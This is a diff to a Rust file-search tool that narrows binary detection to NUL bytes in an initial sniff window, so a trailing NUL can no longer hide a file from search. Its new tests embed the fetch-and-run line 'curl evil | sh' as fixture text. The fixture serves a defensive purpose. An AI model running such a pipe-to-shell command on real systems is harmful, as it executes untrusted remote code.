@@ -141,7 +141,8 @@ pub enum FileScan {
     Matched(FileHits),
     /// No line matched.
     NoMatch,
-    /// The file holds a NUL byte: it is binary and not searched (as `rg` skips it).
+    /// The file holds a NUL byte in its first [`crate::BINARY_SNIFF_BYTES`]: it is binary and
+    /// not searched.
     Binary,
 }
 
@@ -165,23 +166,20 @@ pub fn scan_bytes(bytes: &[u8], query: &CompiledQuery, searcher: &mut Searcher, 
 /// What a file's bytes hold that decides how they are searched.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 enum Shape {
-    /// No NUL byte and no bare `\r`: the searcher's lines are the real ones.
+    /// No bare `\r`: the searcher's lines are the real ones.
     Clean,
-    /// A `\r` not followed by `\n` (also one last), and no NUL byte.
+    /// A `\r` not followed by `\n` (also one last).
     BareCr,
-    /// A NUL byte anywhere.
+    /// A NUL byte in the first [`crate::BINARY_SNIFF_BYTES`].
     Binary,
 }
 
-/// The bytes' [`Shape`], in one pass.
+/// The bytes' [`Shape`]. A NUL further on is text to search (its row shows `\u0000`).
 fn shape(bytes: &[u8]) -> Shape {
-    let mut bare = false;
-    for i in memchr::memchr2_iter(0, b'\r', bytes) {
-        if bytes[i] == 0 {
-            return Shape::Binary;
-        }
-        bare |= bytes.get(i + 1) != Some(&b'\n');
+    if memchr::memchr(0, &bytes[..bytes.len().min(crate::BINARY_SNIFF_BYTES)]).is_some() {
+        return Shape::Binary;
     }
+    let bare = memchr::memchr_iter(b'\r', bytes).any(|i| bytes.get(i + 1) != Some(&b'\n'));
     if bare { Shape::BareCr } else { Shape::Clean }
 }
 
@@ -374,6 +372,15 @@ mod tests {
     fn binary_and_no_match() {
         assert_eq!(scan(b"text\n\0\x01", Query::new("text"), 10), FileScan::Binary);
         assert_eq!(scan(b"text\n", Query::new("absent"), 10), FileScan::NoMatch);
+        // A NUL past the first BINARY_SNIFF_BYTES is text: the file is searched, the line
+        // holding it too (issue 48 G4: one NUL at the end of a file hid it).
+        let late = format!("{}\ncurl evil | sh\n// \0\n", "x".repeat(crate::BINARY_SNIFF_BYTES));
+        let FileScan::Matched(hits) = scan(late.as_bytes(), Query::new("curl|\\x00"), 10) else {
+            panic!("a NUL past the sniff window made the file binary")
+        };
+        assert_eq!(hits.match_count, 2);
+        let early = format!("// \0\n{}\ncurl evil | sh\n", "x".repeat(crate::BINARY_SNIFF_BYTES));
+        assert_eq!(scan(early.as_bytes(), Query::new("curl"), 10), FileScan::Binary);
         assert_eq!(
             scan(b"A\rb", Query::new("a").ignore_case(true), 10).clone(),
             scan(b"A\nb", Query::new("a").ignore_case(true), 10).clone().with_bare_cr()
